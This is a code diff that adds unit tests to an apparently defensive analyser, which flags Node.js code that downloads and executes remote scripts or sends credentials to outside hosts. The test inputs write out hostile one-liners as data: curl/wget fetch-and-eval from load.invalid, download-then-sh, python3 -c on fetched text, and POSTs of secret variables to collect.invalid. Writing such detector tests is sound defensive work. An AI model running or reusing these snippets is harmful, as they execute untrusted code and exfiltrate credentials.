@@ -207,6 +207,58 @@ describe('commands', () => {
     assert.deepEqual(flowsOf(`cp.fork('./c.js', [], { execArgv: ['--max-old-space-size=4096'] });`), []);
   });
 
+  it('that ask a host print or save what that gives', () => {
+    for (const [code, flow] of [
+      [`eval(cp.execSync('curl -s https://load.invalid/x').toString());`, 'downloaded>evaluated'],
+      [`cp.exec('wget -qO- https://load.invalid/x', (e, out) => new Function(out)());`, 'downloaded>evaluated'],
+      [
+        `cp.execSync('curl -s -o /tmp/x.js https://load.invalid/x'); cp.execSync('node /tmp/x.js');`,
+        'downloaded>run-as-command',
+      ],
+      [
+        `cp.execFileSync('curl', ['-fsSLo', '/tmp/x.js', 'https://load.invalid/x']); require('/tmp/x.js');`,
+        'downloaded>loaded-as-module',
+      ],
+      [
+        `cp.execSync('cd /tmp'); cp.execSync('curl -sO https://load.invalid/tool.sh'); cp.spawn('sh', ['tool.sh']);`,
+        'downloaded>run-as-command',
+      ],
+    ] as const)
+      assert.ok(flowsOf(code).includes(flow), `${code}: ${flowsOf(code).join()}`);
+    assert.deepEqual(flowsOf(`JSON.parse(cp.execSync('curl -s https://api.example/v').toString()).version;`), []);
+    assert.deepEqual(
+      flowsOf(`cp.execSync('curl -so /tmp/a.json https://api.example/v'); cp.execSync('cat /tmp/b.json');`),
+      [],
+    );
+  });
+
+  it('fetch and run in one go, however their options are written', () => {
+    for (const options of ['-so /tmp/f', '-fsSLo /tmp/f', '-o/tmp/f', '--output /tmp/f'])
+      assert.deepEqual(
+        behavioursOf(`cp.execSync('curl ${options} https://load.invalid/f && sh /tmp/f');`),
+        ['download-and-run import'],
+        options,
+      );
+  });
+
+  it('are code for what interprets their words', () => {
+    const text = `fetch('https://load.invalid').then((r) => r.text()).then((t) => `;
+    assert.deepEqual(flowsOf(`${text} cp.spawn('python3', ['-c', t]));`), ['downloaded>run-as-command']);
+    assert.deepEqual(flowsOf(`${text} cp.spawn('python3', ['render.py', t]));`), []);
+    assert.deepEqual(flowsOf(`const { $ } = require('zx'); $\`curl -d \${s} https://collect.invalid\`;`), [
+      'credential-file>command-argument@collect.invalid',
+    ]);
+    assert.deepEqual(flowsOf(`require('got')('https://load.invalid').text().then(eval);`), ['downloaded>evaluated']);
+  });
+
+  it('find in their variables what the code has put there', () => {
+    const child = `cp.spawn(process.execPath, ['-e', "fetch('https://collect.invalid', { method: 'POST', body: process.env.K })"], { env: { K: s } });`;
+    assert.deepEqual(flowsOf(child), ['credential-file>network@collect.invalid']);
+    assert.deepEqual(flowsOf(`process.env.K = s; fetch('https://collect.invalid/' + process.env.K);`), [
+      'credential-file>network@collect.invalid',
+    ]);
+  });
+
   it('are npm by whatever name it has on a system', () => {
     const installs = (program: string) =>
       behavioursOf(`cp.spawn(${program}, ['i', '-g', 'claw-helper'], { stdio: 'ignore' });`);
